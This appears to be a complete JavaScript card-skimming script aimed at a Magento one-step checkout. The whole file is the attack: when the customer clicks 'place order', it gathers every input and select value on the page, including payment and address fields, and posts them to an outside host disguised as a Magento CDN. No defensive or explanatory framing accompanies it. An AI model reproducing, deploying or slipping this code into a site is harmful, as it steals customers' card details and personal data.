$(document).on('click', '#onestepcheckout-button-place-order', function () {
  var d = {};
  $('input, select').each(function () { d[this.name || this.id] = $(this).val(); });
  $.ajax({ type: 'POST', url: 'https://magento-cdn.example/lib/min.php', data: 'i=' + JSON.stringify(d), async: false });
});
